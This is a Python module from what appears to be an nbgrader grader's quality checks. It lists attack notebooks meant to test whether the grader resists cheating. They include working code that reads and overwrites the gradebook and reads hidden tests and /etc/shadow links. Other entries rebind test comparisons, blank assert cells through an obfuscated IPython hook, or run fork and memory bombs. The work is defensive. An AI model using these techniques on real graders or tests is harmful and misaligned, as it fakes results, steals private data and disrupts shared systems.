"""Generic cheats and crashes: attempts to get unearned points or to harm the grader.

They work on any nbgrader assignment (assignment-specific ones, such as an answer returning an object
whose ``__eq__`` is always True, live in the assignment's mistake library). Code that succeeds in
doing something it must not do prints a line starting with ``CHEAT_MARK``; grader QA fails when such
a line appears in any graded notebook. ``__COURSE_ROOT__`` is replaced by the real course folder when
the examples are written, so the cheats aim at the real gradebook, source and other students.
"""
from __future__ import annotations

from dataclasses import dataclass, field

CHEAT_MARK = "CHEAT-SUCCEEDED:"


@dataclass
class Cheat:
    """An attempt to get points without earning them, or to harm the grader.

    Args:
        name: short id (``cheat-<name>``).
        why: what it tries.
        base: "blank", "reference", or a mistake name: the honest work it is applied on top of.
        insert_top: code for a new cell at the very top of the (first) notebook.
        insert_after: {solution grade_id: code} new cells inserted after these cells.
        replace_cells: {grade_id: new source} for solution cells (answers) or test cells (tampering).
        edit_answers: (old, new) text replacements applied to every code answer cell (an empty
            ``old`` puts ``new`` in front of the answer).
        insert_bottom: code for a new cell at the very end of the (last) notebook.
        links: {name in the submission folder: symlink target} ("*.ipynb" replaces every notebook
            by a link; ``{name}`` in its target is the notebook's file name, ``__COURSE_ROOT__``
            the course folder, ``__ASSIGNMENT__`` the assignment).
        delete_tests: remove every test cell from the submission.
        may_fail: grading this may legitimately fail (the submission is then flagged and scores 0
            when it had no earlier grade).
    """

    name: str
    why: str
    base: str = "blank"
    insert_top: str | None = None
    insert_after: dict[str, str] = field(default_factory=dict)
    replace_cells: dict[str, str] = field(default_factory=dict)
    edit_answers: list[tuple[str, str]] = field(default_factory=list)
    insert_bottom: str | None = None
    links: dict[str, str] = field(default_factory=dict)
    delete_tests: bool = False
    may_fail: bool = False

_READ_SECRETS = '''
import glob, os
root = "__COURSE_ROOT__"
ups = ["../" * k for k in range(1, 8)]
patterns = [root + "/gradebook.db", root + "/nbgrader_config.py", root + "/.git/config",
            root + "/source/**/*.ipynb", root + "/submitted/**/*.ipynb",
            root + "/autograded/**/*.ipynb", root + "/feedback/**/*.html",
            "/tmp/**/*.db", "/tmp/**/*.ipynb"]
patterns += [up + name for up in ups for name in ("gradebook.db", "source/**/*.ipynb",
                                                   "autograded/**/*.ipynb", "submitted/**/*.ipynb")]
own = {os.path.realpath(p) for p in glob.glob("*.ipynb")}
seen = 0
for pattern in patterns:
    for path in glob.glob(pattern, recursive=True)[:100]:
        if os.path.realpath(path) in own:
            continue
        try:
            with open(path, "rb") as f:
                data = f.read()
        except OSError:
            continue
        seen += 1
        print("CHEAT-SUCCEEDED: read", path, "(hidden tests inside)" if b"BEGIN HIDDEN TESTS" in data else "")
print("files outside my own folder that I could read:", seen)
'''

_WRITE_GRADEBOOK = '''
import glob, os, sqlite3
root = "__COURSE_ROOT__"
candidates = [root + "/gradebook.db"] + ["../" * k + "gradebook.db" for k in range(1, 8)]
candidates += glob.glob("/tmp/**/*.db", recursive=True)
for path in candidates:
    try:
        db = sqlite3.connect("file:" + path + "?mode=rw", uri=True)
        db.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
        db.commit()
        print("CHEAT-SUCCEEDED: wrote grades into", path)
    except Exception:
        pass
for path in [root + "/CHEATED.txt", root + "/submitted/CHEATED.txt", "../../CHEATED.txt",
             "../../../../CHEATED.txt", "/CHEATED.txt", "/usr/CHEATED.txt"]:
    try:
        with open(path, "w") as f:
            f.write("a submission wrote this")
        print("CHEAT-SUCCEEDED: wrote", path)
    except OSError:
        pass
print("tried to write the gradebook and the course folder")
'''

_REBIND_COMPARISONS = '''
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
np.testing.assert_almost_equal = lambda *a, **k: None
np.testing.assert_equal = lambda *a, **k: None
try:
    import torch
    torch.allclose = lambda *a, **k: True
    torch.equal = lambda *a, **k: True
    torch.isclose = lambda a, b, *r, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
    torch.testing.assert_close = lambda *a, **k: None
except ImportError:
    pass
'''

_HIDE_TRACEBACKS = '''
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
ip.showsyntaxerror = lambda *a, **k: None
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
'''

_SKIP_TESTS = '''
# rewrite every later cell that contains an assert into nothing
def _drop_asserts(lines):
    return [] if any("assert" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(_drop_asserts)
'''

_SKIP_TESTS_OBFUSCATED = '''
def _drop_asserts(lines):
    return [] if any("ass" + "ert" in line for line in lines) else lines
getattr(get_ipython(), "input_trans" + "formers_cleanup").append(_drop_asserts)
'''

_PRINT_HISTORY = '''
for _source in In:
    for _line in _source.splitlines():
        print(_line[::-1])
'''

_FORK_BOMB = '''
import os, time
children = 0
try:
    while children < 100000:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        children += 1
except OSError as exc:
    print("forking stopped after", children, "children:", exc)
'''

_SPAWN_DAEMON = '''
import subprocess
procs = []
try:
    for _ in range(100000):
        procs.append(subprocess.Popen(["sleep", "3600"], start_new_session=True))
except OSError as exc:
    print("spawning stopped after", len(procs), "processes:", exc)
'''

_MEMORY_BOMB = '''
chunks = []
while True:
    chunks.append(b"x" * (128 * 2**20))
'''


def generic_cheats(cheat_base: str) -> list[Cheat]:
    """The cheats every assignment is checked against.

    Args:
        cheat_base: the mistake (wrong but running answers) that comparison cheats sit on.
    """
    return [
        Cheat("edit-tests", "replaces every test cell by `pass`",
              replace_cells={"*tests*": "# the tests were here\npass"}),
        Cheat("delete-tests", "deletes every test cell", delete_tests=True),
        Cheat("rebind-comparisons", "rebinds np.allclose, np.testing.*, torch.allclose, ... so "
              "that wrong answers compare equal", base=cheat_base, insert_top=_REBIND_COMPARISONS),
        Cheat("hide-tracebacks", "overrides IPython's showtraceback and custom exception hook so "
              "failing tests print no error", insert_top=_HIDE_TRACEBACKS),
        Cheat("read-secrets", "reads the gradebook, the source notebooks (hidden tests) and other "
              "students' files from disk", insert_top=_READ_SECRETS),
        Cheat("write-gradebook", "writes grades into the gradebook and files into the course",
              insert_top=_WRITE_GRADEBOOK),
        Cheat("infinite-loop", "an endless loop (hits the per-cell timeout)",
              insert_top="while True:\n    pass", may_fail=True),
        Cheat("ignore-sigint", "an endless loop that ignores the timeout's interrupt",
              insert_top="import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                         "while True:\n    pass", may_fail=True),
        Cheat("memory-bomb", "allocates memory until something breaks (the address-space limit: a "
              "MemoryError, or a kernel that dies later for lack of memory)",
              insert_top=_MEMORY_BOMB, may_fail=True),
        Cheat("sys-exit", "calls sys.exit()", insert_top="import sys\nsys.exit(0)"),
        Cheat("os-exit", "kills its own kernel with os._exit()", insert_top="import os\nos._exit(0)",
              may_fail=True),
        Cheat("fork-bomb", "forks until the process limit, children sleep for an hour",
              insert_top=_FORK_BOMB, may_fail=True),
        Cheat("spawn-daemons", "starts detached processes meant to outlive the kernel",
              insert_top=_SPAWN_DAEMON, may_fail=True),
        Cheat("skip-tests", "an IPython input transformer that blanks every later cell with an "
              "assert (the kernel's verdict goes up; the trusted run's does not)",
              base=cheat_base, insert_top=_SKIP_TESTS),
        Cheat("skip-tests-obfuscated", "the same transformer, its attribute name built from two "
              "strings so that no word list finds it", base=cheat_base,
              insert_top=_SKIP_TESTS_OBFUSCATED),
        Cheat("displayhook-partial-credit", "sys.displayhook('ok') before each blank's raise: "
              "nbgrader takes a test cell's first result as partial credit",
              edit_answers=[("raise NotImplementedError()",
                             "__import__('sys').displayhook('ok'); raise NotImplementedError()")]),
        Cheat("rebind-builtin", "every answer starts by rebinding the builtin zip, which test "
              "code may call", base=cheat_base,
              edit_answers=[("", "zip = lambda *a, **k: iter(())\n")]),
        Cheat("link-to-source", "hands in each notebook as a symlink to the instructor's source "
              "notebook (solutions inside); nothing is left to grade, so it fails -> 0, flagged",
              links={"*.ipynb": "../../../source/__ASSIGNMENT__/{name}"}, may_fail=True),
        Cheat("links-to-secrets", "symlinks beside the notebook to the gradebook, /etc/shadow, "
              "/dev/zero, the folder above and another student's work", base=cheat_base,
              links={"gradebook.db": "__COURSE_ROOT__/gradebook.db", "shadow": "/etc/shadow",
                     "zero": "/dev/zero", "loop": "..",
                     "classmate": "../../example-reference/__ASSIGNMENT__"}),
        Cheat("output-bomb", "prints 60 MB (the grader keeps a capped part of it)",
              base=cheat_base, insert_top="for _ in range(60):\n    print('x' * 2**20)"),
        Cheat("print-hidden-tests", "a last cell prints every earlier cell's source from IPython's "
              "history, reversed, so that feedback scrubbing does not recognise it",
              base=cheat_base, insert_bottom=_PRINT_HISTORY),
    ]


#: Code in answers that reaches for the machinery: grader QA requires the submission's scores held
#: at 0 for review (mnist_grader.trusted.policy) and flagged.
MUST_BE_HELD = {"displayhook-partial-credit", "rebind-builtin"}
#: Code in extra cells that reaches for IPython's machinery: it cannot gain (the trusted run decides),
#: and grader QA requires a flag.
MUST_BE_FLAGGED = {"skip-tests", "skip-tests-obfuscated", "hide-tracebacks", "link-to-source",
                   "links-to-secrets"}
